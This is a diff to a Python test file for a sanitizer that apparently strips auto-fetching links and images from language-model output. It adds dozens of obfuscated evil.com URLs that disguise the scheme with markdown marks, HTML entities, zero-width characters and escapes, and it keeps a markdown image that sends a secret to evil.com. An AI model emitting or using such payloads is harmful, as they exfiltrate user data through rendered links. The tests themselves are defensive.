@@ -1,10 +1,12 @@
 """What a language model writes shows no picture and no link that fetches something by itself."""
 
+import html
 import re
 
 import pytest
 
 from parley.bot.spoken import spoken
+from tests.linear import assert_linear
 
 HOSTILE = [
     "![x](https://evil.com/?q=secret)",
@@ -36,6 +38,57 @@ HOSTILE = [
 ]
 
 
+MARKED = [
+    "https:*//evil.com/?q=secret*",
+    "https:**/**/evil.com/x",
+    "https://**evil.com/x**",
+    "ht**tps://evil.com/x**",
+    "**h**ttps://evil.com",
+    "htt_ps_://evil.com",
+    "htt~~ps~~://evil.com/x",
+    "`https:`//evil.com/x",
+    "https://```\\evil.com\n```",
+    "https:\\/\\/evil.com/x",
+    "https://\\evil.com/x",
+    "ht\u200btps://evil.com/x",
+    "https&#58;//evil.com/x",
+    "https&#x3A;&#x2f;&sol;evil.com/x",
+    "htt&#112;s&colon;//evil.com/x",
+    "[a](https:\\/\\/evil.com/x)",
+    "https[:](x)//evil.com/x",
+    "https:[//evil.com/x](a)",
+    "https:[//evil.com/x](https://docs.example.com)",
+    "https[://evil.com/x](https://docs.example.com)",
+    "w**ww.evil.com/x**",
+    "www&#46;evil.com/x",
+    "www.**evil.com**/x",
+    "a" * 21 + "https://evil.com/x",
+    "a" * 200 + "https://evil.com/x",
+    "https://'@evil.com/?q=secret",
+    'https://"@evil.com/?q=secret',
+    "https://|@evil.com/?q=secret",
+    "https://]@evil.com/x",
+    "https://、@evil.com/x",
+    "h" + "*" * 100 + "ttps://evil.com/x",
+]
+
+
+@pytest.mark.parametrize("text", MARKED)
+def test_marks_and_entities_hide_no_address(text: str) -> None:
+    shown = html.unescape(spoken(text, ("docs.example.com",)).text)
+    shown = shown.replace("https://docs.example.com", "")
+    outside = re.sub(r"(`+)[^`]*\1(?!`)", "code", shown)
+    for each in (shown, outside):
+        assert not re.search(r"[a-z]:/+\S", re.sub(r"[*_~`|\\\u200b\[\]]", "", each), re.IGNORECASE), shown
+    assert not re.search(r"www\.", re.sub(r"[*_~`|\\\u200b]", "", outside)), shown
+    assert "evil.com" in shown
+
+
+def test_addresses_are_found_in_linear_time() -> None:
+    for part in ("a", "a*", "*", "w*", "ht&#112;", "https:", "https:/*", "[", "`", "a-"):
+        assert_linear(spoken, lambda size, part=part: part * size, small=2_000, large=10_000)
+
+
 @pytest.mark.parametrize("text", HOSTILE)
 def test_an_address_of_another_host_has_no_scheme(text: str) -> None:
     shown = spoken(text, ("docs.example.com",)).text
@@ -51,6 +104,8 @@ def test_an_address_of_another_host_has_no_scheme(text: str) -> None:
         "https://a.docs.example.com",
         "```sh\ncurl https://any.example.org\n```",
         "Text.\n```\nhttps://any.example.org\n```\nMore **text**.",
+        "see `docs`: a/b, **http:** and http://\nor *x*: // y",
+        "**see** https://docs.example.com/a and [a/b](https://docs.example.com/a)",
         "1:2, a://, :// and **bold** `code`",
     ],
 )
